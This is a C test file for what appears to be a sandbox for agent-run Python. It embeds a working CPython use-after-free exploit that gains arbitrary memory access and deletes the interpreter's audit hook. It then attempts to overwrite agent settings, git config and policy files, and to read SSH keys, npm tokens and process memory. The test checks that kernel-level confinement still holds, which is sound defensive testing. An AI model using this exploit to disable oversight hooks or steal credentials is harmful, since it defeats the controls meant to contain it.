/*
 * An interpreter that is broken by its own means: BufferedReader lends its buffer to
 * readinto(), and who keeps the view of it has memory that is somebody else's by and by
 * (python/cpython#60198).  With that a snippet of plain Python takes the audit hook away.
 * Then only the kernel is left, and must hold.
 */
#include "hosts.h"
#include "python-world.h"
#include "scratch.h"

#include <dlfcn.h>
#include <link.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

static struct python_world_options options;
static long to_hook;

/* Read and write anywhere: `victim` is a byte array whose fields lie in the lost buffer.
 */
static const char take_over[] =
        "import io\n"
        "kept = []\n"
        "class Raw(io.RawIOBase):\n"
        "    def readable(self):\n"
        "        return True\n"
        "    def readinto(self, view):\n"
        "        kept.append(view)\n"
        "        return 0\n"
        "def lose(size):\n"
        "    reader = io.BufferedReader(Raw(), size)\n"
        "    reader.read(1)\n"
        "    del reader\n"
        "    return kept.pop()\n"
        "def number(data):\n"
        "    return int.from_bytes(data, 'little')\n"
        "lost = lose(56)\n"
        "arrays = [bytearray() for i in range(64)]\n"
        "if number(lost[8:16]) != id(bytearray):\n"
        "    print('SOUND')\n"
        "    raise SystemExit\n"
        "def point(address, size):\n"
        "    fields = size, size + (1 if size else 0), address, address\n"
        "    for i, value in enumerate(fields):\n"
        "        lost[16 + 8 * i:24 + 8 * i] = value.to_bytes(8, 'little')\n"
        "point(id(bytearray), 8)\n"
        "victim = [a for a in arrays if len(a)][0]\n"
        "def read(address, size):\n"
        "    point(address, size)\n"
        "    data = bytes(victim)\n"
        "    point(0, 0)\n"
        "    return data\n"
        "def write(address, data):\n"
        "    point(address, len(data))\n"
        "    victim[:] = data\n"
        "    point(0, 0)\n"
        "hook = number(read(id(int) + TO_HOOK, 8))\n"
        "write(id(int) + TO_HOOK, bytes(8))\n"
        "print('HOOK', hook != 0)\n";

static const char attempts[] =
        "def attempt(name, path, mode):\n"
        "    try:\n"
        "        with io.FileIO(path, mode) as f:\n"
        "            print(name, f.read(3) if mode == 'r' else 'GOT THROUGH')\n"
        "    except OSError as e:\n"
        "        print(name, 'by a rule' if 'Rule:' in str(e) else 'by the kernel')\n";

static const char tries[] = "attempt('settings', '.claude/settings.json', 'w')\n"
                            "attempt('outside', TOP + '/out/new', 'w')\n"
                            "attempt('home', TOP + '/home/.bashrc', 'w')\n"
                            "attempt('git', '.git/config', 'a')\n"
                            "attempt('policy', '.pyddock/pyddock.override.toml', 'a')\n"
                            "attempt('key', TOP + '/home/.ssh/key', 'r')\n"
                            "attempt('token', TOP + '/home/.npmrc', 'r')\n"
                            "attempt('zygote', f'/proc/{ZYGOTE}/environ', 'r')\n"
                            "attempt('own memory', '/proc/self/mem', 'r+')\n";

static int unused_hook(const char *event UNUSED, void *args UNUSED, void *user UNUSED)
{
    return 0;
}

/* Where the list of audit hooks begins, counted from a type: found by adding one to an
 * interpreter that is not started, in this process. */
static bool find_hook(long *distance)
{
    typedef int add_fn(int (*)(const char *, void *, void *), void *);
    void *library = dlopen(LIBPYTHON, RTLD_LAZY | RTLD_LOCAL);
    char *state = library ? dlsym(library, "_PyRuntime") : NULL;
    char *type = library ? dlsym(library, "PyLong_Type") : NULL;
    void *add = library ? dlsym(library, "PySys_AddAuditHook") : NULL;
    if (!state || !type || !add)
        return false;
    Dl_info info;
    const ElfW(Sym) * symbol;
    void *extra = NULL;
    if (!dladdr1(state, &info, &extra, RTLD_DL_SYMENT) || !extra)
        return false;
    symbol = extra;
    auto_free char *before = xmalloc(symbol->st_size);
    memcpy(before, state, symbol->st_size);
    add_fn *call;
    memcpy(&call, &add, sizeof(call));
    if (call(unused_hook, NULL))
        return false;
    for (size_t at = 0; at + sizeof(void *) <= symbol->st_size; at += sizeof(void *)) {
        void **entry;
        int (*function)(const char *, void *, void *) = unused_hook;
        memcpy(&entry, state + at, sizeof(entry));
        if (!memcmp(before + at, state + at, sizeof(entry)) || !entry)
            continue;
        if (!memcmp(entry + 1, &function, sizeof(function))) {
            *distance = state + at - type;
            return true;
        }
    }
    return false;
}

static void run(struct python_world *w, const char *first, struct python_child *c)
{
    auto_buf code = BUF((size_t)1 << 16);
    buf_addf(&code, "import io\nTOP = '%s'\nZYGOTE = %d\nTO_HOOK = %ld\n%s%s%s",
            w->machine.top, (int)w->zygote.pid, to_hook, first, attempts, tries);
    python_child_run(w, code.data, c);
}

static void expect_line(const char *output, const char *line)
{
    if (!strstr(output, line))
        fail_msg("no '%s' in: %s", line, output);
}

static void test_rules_hold_before(void **state UNUSED)
{
    struct python_world w;
    struct python_child c;
    python_world_begin(&w, &options);
    assert_int_equal(mkdir(machine_path(&w.machine, "ws/.claude"), 0755), 0);
    run(&w, "", &c);
    static const char *const names[] = { "settings", "outside", "home", "git", "policy",
        "key", "token" };
    for (size_t i = 0; i < ARRAY_LEN(names); i++) {
        char line[64];
        snprintf(line, sizeof(line), "%s by a rule\n", names[i]);
        expect_line(c.output, line);
    }
    python_child_finish(&c);
    python_world_end(&w);
}

static void test_kernel_holds_after(void **state UNUSED)
{
    struct python_world w;
    struct python_child c;
    python_world_begin(&w, &options);
    assert_int_equal(mkdir(machine_path(&w.machine, "ws/.claude"), 0755), 0);
    run(&w, take_over, &c);
    bool is_sound = strstr(c.output, "SOUND");
    if (!is_sound) {
        expect_line(c.output, "HOOK True\n");
        expect_line(c.output, "settings GOT THROUGH\n"); /* the hook is gone */
        expect_line(c.output, "outside by the kernel\n");
        expect_line(c.output, "home by the kernel\n");
        expect_line(c.output, "zygote by the kernel\n");
        expect_line(c.output, "own memory by the kernel\n");
        if (python_child_holds(&c, "protected")) {
            expect_line(c.output, "git by the kernel\n");
            expect_line(c.output, "policy by the kernel\n");
            expect_line(c.output, "key by the kernel\n");
            expect_line(c.output, "token by the kernel\n");
        }
    }
    python_child_finish(&c);
    python_world_end(&w);
    if (is_sound)
        skip(); /* this interpreter has no such mistake any more */
}

static int test_all(enum host host)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rules_hold_before),
        cmocka_unit_test(test_kernel_holds_after),
    };
    fprintf(stderr, "# as uid %u, %s\n", geteuid(), host_names[host]);
    return cmocka_run_group_tests(tests, NULL, NULL);
}

int main(void)
{
    char folder[] = "/tmp/paddock-broken-XXXXXX", command[1024], copy[64];
    int failed = 0;
    scratch_make(folder);
    snprintf(copy, sizeof(copy), "%s/python", folder);
    snprintf(command, sizeof(command), "cp '%s' '%s' && chmod 755 '%s'",
            getenv("PADDOCK_PYTHON"), copy, folder);
    if (system(command))
        return 1;
    options.program = copy;
    if (!find_hook(&to_hook)) {
        fputs("left out: the hooks of this interpreter cannot be found\n", stderr);
        return 77;
    }
    for (enum host host = HOST_WHOLE; host <= HOST_NO_MOUNTS; host++) {
        failed += host_run(host, false, test_all);
        if (!geteuid())
            failed += host_run(host, true, test_all);
    }
    scratch_remove(folder);
    return failed != 0;
}
